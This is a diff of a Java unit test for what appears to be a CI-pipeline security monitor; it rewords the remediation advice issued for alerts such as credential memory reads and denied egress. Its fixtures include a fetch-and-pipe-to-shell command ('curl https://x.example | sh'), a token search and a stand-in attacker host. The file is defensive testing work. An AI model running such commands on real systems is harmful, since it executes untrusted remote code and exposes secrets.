@@ -19,7 +19,7 @@ import org.junit.jupiter.api.Test;
 
 /** Advice says no more than the evidence: who is to be stopped did it itself, and did more than what a warning is for. */
 final class AdviceTest {
-    private static final String STOLEN = "Treat every secret that this job could read as stolen";
+    private static final String STOLEN = "Treat every secret that this job could read as compromised";
 
     private final List<RuleFacts> rules = new ArrayList<>();
     private final List<AlertFacts> alerts = new ArrayList<>();
@@ -108,7 +108,7 @@ final class AdviceTest {
                 .scripts(scripts)
                 .end();
         return Synopsis.of(report).advice().stream()
-                .filter(advice -> !advice.startsWith("Something is missing"))
+                .filter(advice -> !advice.startsWith("This report is incomplete"))
                 .toList();
     }
 
@@ -119,9 +119,9 @@ final class AdviceTest {
         alert(Priority.CRITICAL, "Memory Read", reader, "mitre_credential_access");
         assertThat(advice())
                 .containsExactly(
-                        STOLEN + ": revoke and renew them, its tokens for clouds and registries too. (Memory Read)",
-                        "Stop using tj-actions/changed-files at v45 until you know why it did this; then pin it to a commit"
-                                + " that you have read.");
+                        STOLEN + ": revoke and rotate them, including cloud and registry tokens. (Memory Read)",
+                        "Stop using tj-actions/changed-files at v45 until you know the cause; then pin it to a commit"
+                                + " that you have reviewed.");
     }
 
     /** What a process says of itself, or was told as a text, is no evidence against the action. */
@@ -143,14 +143,14 @@ final class AdviceTest {
                     .as(command)
                     .singleElement()
                     .asString()
-                    .startsWith("Look at what " + program + " did in Changed files");
+                    .startsWith("Review what " + program + " did in Changed files");
         }
         alerts.clear();
         rules.clear();
         int node = process(-1, "node", "node " + own, 1, -1);
         int shell = process(node, "bash", "bash -c curl https://x.example | sh", 1, -1);
         alert(Priority.ERROR, "One", process(shell, "cat", "cat x", 1, -1));
-        assertThat(advice()).singleElement().asString().startsWith("Look at what cat did in Changed files");
+        assertThat(advice()).singleElement().asString().startsWith("Review what cat did in Changed files");
         // Its own file does it, by whatever it was started.
         alerts.clear();
         rules.clear();
@@ -166,7 +166,7 @@ final class AdviceTest {
         alert(Priority.WARNING, "Program Started From a Temporary Place", git, "mitre_execution");
         assertThat(advice())
                 .containsExactly(
-                        "Look at what git did in Checkout (actions/checkout@v4): it broke “Program Started From a"
+                        "Review what git did in Checkout (actions/checkout@v4): it triggered “Program Started From a"
                                 + " Temporary Place”.");
     }
 
@@ -176,11 +176,11 @@ final class AdviceTest {
         int test = process(node, "sh", "sh /w/app/app/test.sh", 1, -1);
         int make = process(node, "make", "make all", 1, -1);
         alert(Priority.ERROR, "One", process(test, "cat", "cat x", 1, -1));
-        assertThat(advice()).singleElement().asString().startsWith("Look at what cat did in Changed files");
+        assertThat(advice()).singleElement().asString().startsWith("Review what cat did in Changed files");
         alerts.clear();
         rules.clear();
         alert(Priority.ERROR, "Two", process(make, "cat", "cat x", 1, -1));
-        assertThat(advice()).singleElement().asString().startsWith("Look at what cat did in Changed files");
+        assertThat(advice()).singleElement().asString().startsWith("Review what cat did in Changed files");
     }
 
     /** Whoever builds names files of the checkout as they lie there. */
@@ -202,7 +202,7 @@ final class AdviceTest {
                     .as(command)
                     .singleElement()
                     .asString()
-                    .startsWith("Look at what cat did in Changed files");
+                    .startsWith("Review what cat did in Changed files");
         }
     }
 
@@ -210,14 +210,14 @@ final class AdviceTest {
     @Test
     void anActionIsNotBlamedWithoutAFileOfItsOwn() {
         alert(Priority.ERROR, "One", process(-1, "python3", "python3 /w/_temp/x", 1, -1));
-        assertThat(advice()).singleElement().asString().startsWith("Look at what python3 did in Changed files");
+        assertThat(advice()).singleElement().asString().startsWith("Review what python3 did in Changed files");
     }
 
     @Test
     void aStepThatIsNotSureIsLookedAt() {
         confidence = "medium";
         alert(Priority.ERROR, "One", process(-1, "node", "node /w/_actions/x.js", 1, -1));
-        assertThat(advice()).singleElement().asString().startsWith("Look at what node did in Changed files");
+        assertThat(advice()).singleElement().asString().startsWith("Review what node did in Changed files");
     }
 
     @Test
@@ -225,7 +225,7 @@ final class AdviceTest {
         scripts.add(new ScriptFacts(0, "npm", "left", "1.0.0", "postinstall", true, "high", "manager", "npm", 1));
         int script = process(-1, "node", "node setup.js", 2, 0);
         alert(Priority.WARNING, "One", script);
-        assertThat(advice()).containsExactly("Look at what left 1.0.0 runs when it is installed: it broke “One”.");
+        assertThat(advice()).containsExactly("Review what left 1.0.0 runs when it is installed: it triggered “One”.");
         alert(Priority.ERROR, "Two", script);
         // The rules of a report are in the order of their urgency.
         rules.set(0, new RuleFacts(0, "One", "", Priority.ERROR, List.of(), 1, List.of(0)));
@@ -243,7 +243,7 @@ final class AdviceTest {
         alert(Priority.WARNING, "Search", process(-1, "grep", "grep token", 2, -1), "mitre_credential_access");
         assertThat(advice())
                 .contains(
-                        "Look at which secrets were in reach, and renew them unless you know why this was done. (Search)")
+                        "Check which secrets were accessible, and rotate them unless this access is expected. (Search)")
                 .noneMatch(advice -> advice.startsWith(STOLEN));
     }
 
@@ -252,7 +252,7 @@ final class AdviceTest {
         alert(Priority.ERROR, "Egress Denied", process(-1, "curl", "curl x", 2, -1), "mitre_exfiltration");
         assertThat(advice())
                 .noneMatch(advice -> advice.startsWith(STOLEN))
-                .anySatisfy(advice -> assertThat(advice).startsWith("Look at what was denied"));
+                .anySatisfy(advice -> assertThat(advice).startsWith("Review the denied destinations"));
     }
 
     /** The registry that all talk to is no trace of who did it. */
@@ -269,7 +269,7 @@ final class AdviceTest {
         contact(later, "mirror.example");
         alert(Priority.ERROR, "One", script);
         assertThat(advice())
-                .contains("Look for evil.example in the logs of your other jobs and of your network.")
+                .contains("Look for evil.example in the logs of your other jobs and your network.")
                 .noneMatch(advice -> advice.contains("registry.example") || advice.contains("mirror.example"));
     }
 }
